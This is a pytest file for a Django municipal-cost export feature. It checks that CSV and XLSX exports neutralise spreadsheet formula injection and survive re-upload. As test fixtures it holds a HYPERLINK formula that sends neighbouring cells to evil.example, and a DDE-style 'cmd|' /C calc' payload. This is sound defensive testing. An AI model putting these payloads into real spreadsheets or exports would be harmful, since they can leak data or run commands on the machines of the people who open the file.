"""What a town types is exported as text, never as a formula for the reader's spreadsheet
to run: a vendor «=HYPERLINK("https://evil.example/?d="&B2&C2,"詳細")» saved on a town's
cost page came out as a live formula in its sheet and in the comparison every town
downloads once it is published, sending the neighbouring cells away when clicked."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from apps.accounts.models import Role
from apps.costs import exports
from apps.costs.models import CostRecord
from apps.members.models import MemberBody
from tests.factories import (
    ConsortiumFactory,
    SurveyRoundFactory,
    add_cost,
    business_system,
    member_of,
    user_with_role,
)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?d="&B2&C2,"詳細")'


@pytest.fixture
def town(client):
    consortium = ConsortiumFactory(slug="saitama")
    consortium.business_systems.add(business_system("family_register"))
    SurveyRoundFactory(consortium=consortium, fiscal_year=2025)
    body = member_of(consortium, code="113018", name="伊奈町")
    add_cost(body, 2_649_000, business_system=business_system("family_register"), vendor=FORMULA)
    client.force_login(user_with_role(Role.SECRETARIAT, consortium=consortium))
    return body


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_cells(response) -> list[list]:
    return [list(row) for row in load_workbook(io.BytesIO(response.content)).active.iter_rows()]


@pytest.mark.parametrize("url", ["body_costs_sheet_csv", "cost_comparison_csv"])
def test_a_formula_typed_as_a_vendor_is_exported_to_csv_behind_an_apostrophe(client, town, url):
    args = [town.code, 2025] if url.startswith("body") else ["saitama"]
    rows = csv_rows(client.get(reverse(url, args=args)))
    assert ["'" + FORMULA] == [cell for row in rows for cell in row if FORMULA in cell]


@pytest.mark.parametrize("url", ["body_costs_sheet_xlsx", "cost_comparison_xlsx"])
def test_a_formula_typed_as_a_vendor_is_exported_to_xlsx_as_text(client, town, url):
    args = [town.code, 2025] if url.startswith("body") else ["saitama"]
    [vendor] = [cell for row in xlsx_cells(client.get(reverse(url, args=args))) for cell in row
                if cell.value and FORMULA[1:] in str(cell.value)]
    assert vendor.data_type == "s" and vendor.value == FORMULA  # a formula is data_type "f"


def test_a_name_beginning_with_a_formula_character_in_the_members_sheet_is_text(client, town):
    town.mayor_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    town.save()
    rows = csv_rows(client.get(reverse("members_csv", args=["saitama"])))
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in rows[1]
    [mayor] = [cell for cell in xlsx_cells(client.get(reverse("members_xlsx", args=["saitama"])))[1]
               if cell.value == town.mayor_name]
    assert mayor.data_type == "s"


def test_every_text_cell_that_a_spreadsheet_would_run_is_neutralised_and_numbers_stay_numbers():
    texts = ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "#N/A"]
    record = [*texts, "伊奈町", "", -5, 0, 2_649_000]

    [_headings, row] = csv_rows_of(exports.to_csv(["見出し"], [record]))
    assert row == ["'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", "#N/A", "伊奈町", "", "-5", "0", "2649000"]

    [cells] = [list(row) for row in load_workbook(io.BytesIO(exports.to_xlsx(["見出し"], [record], title="t")))
               .active.iter_rows(min_row=2)]
    # XML reads a CR back as a line feed, as in any text cell.
    assert [(cell.value, cell.data_type) for cell in cells[:7]] == [(text.replace("\r", "\n"), "s") for text in texts]
    assert (cells[7].value, cells[7].data_type) == ("伊奈町", "s") and cells[8].value is None
    assert [(cell.value, cell.data_type) for cell in cells[9:]] == [(-5, "n"), (0, "n"), (2_649_000, "n")]


def csv_rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_sheet_with_a_formula_like_vendor_uploads_back_unchanged(client, town, fmt):
    """The apostrophe is the export's, not the vendor's: the upload takes it off again."""
    response = client.get(reverse(f"body_costs_sheet_{fmt}", args=[town.code, 2025]))
    before = list(CostRecord.objects.values_list("pk", "amount", "vendor", "updated_at"))
    url = reverse("body_costs_upload", args=[town.code, 2025])
    file = io.BytesIO(response.content)
    file.name = f"sheet.{fmt}"
    preview = client.post(url, {"file": file, "unit": "yen"})
    assert not preview.context["report"].errors
    client.post(url, {"token": preview.context["token"]})
    assert list(CostRecord.objects.values_list("pk", "amount", "vendor", "updated_at")) == before


@pytest.mark.parametrize("url", ["members_xlsx", "body_costs_sheet_xlsx", "cost_comparison_xlsx"])
def test_a_control_character_saved_before_one_line_fields_refused_it_is_exported_as_a_replacement_mark(
        client, town, url):
    """Saved with an update, as rows were before SingleLineCharField: no validation runs."""
    MemberBody.objects.filter(pk=town.pk).update(name="伊奈\x01町", mayor_name="町長\x0b")
    CostRecord.objects.filter(body=town).update(vendor="ベンダー\x1f\t社")
    args = [town.code, 2025] if url.startswith("body") else ["saitama"]
    response = client.get(reverse(url, args=args))
    assert response.status_code == 200
    values = {cell.value for row in xlsx_cells(response) for cell in row}
    assert "伊奈\ufffd町" in values
    # A tab is text a cell holds. (The comparison's vendor is its summary's, not updated here.)
    assert ("ベンダー\ufffd\t社" in values) == (url == "body_costs_sheet_xlsx")
    assert ("町長\ufffd" in values) == (url == "members_xlsx")
